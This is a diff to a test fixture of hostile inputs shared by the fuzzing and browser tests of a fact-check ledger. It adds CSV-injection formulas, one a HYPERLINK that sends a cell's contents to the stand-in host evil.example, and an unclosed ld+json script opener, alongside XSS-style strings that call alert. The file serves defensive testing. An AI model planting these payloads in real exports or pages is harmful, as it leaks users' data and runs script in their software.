@@ -1,8 +1,9 @@
 """
 What people who dislike a verdict type into the ledger: markup, script, attribute
-breakers, scheme tricks, direction overrides, invisible characters, long texts
-and scripts other than Latin. Shared by the hostile-content, fuzzing and
-browser tests. Each runs `alert(` if it ever escapes its text.
+breakers, scheme tricks, direction overrides, invisible characters, long texts,
+scripts other than Latin, and spreadsheet formulas for the CSV export. Shared
+by the hostile-content, fuzzing and browser tests. Each runs `alert(` if it
+ever escapes its text.
 """
 
 HOSTILE = {
@@ -22,6 +23,11 @@ HOSTILE = {
     "zero_width": "zero\u200bwidth\u200cnon\u200djoiner\ufeffmark\u2060",
     "emoji": "👩🏽‍💻 checked it 🔥 🙂 🏳️‍🌈",
     "chinese": "國際特赦組織香港辦事處將於年底前關閉",
+    # A spreadsheet opening the CSV export would run these (OWASP's CSV injection).
+    "formula": '=HYPERLINK("https://evil.example/?c="&A1, "alert(8)") a live link',
+    "formula_behind_a_quote": "'=1+1 '+alert(9) @SUM(A1) behind the quote a spreadsheet hides",
+    # Text that looks to the ClaimReview reader like a block of a page.
+    "ld_json_opener": '<script type="application/ld+json">{"x": "alert(10)"} never closed',
     "long": ("A very long claim <em>with</em> 字 & “quotes” " * 250)[:10_000],
 }
 
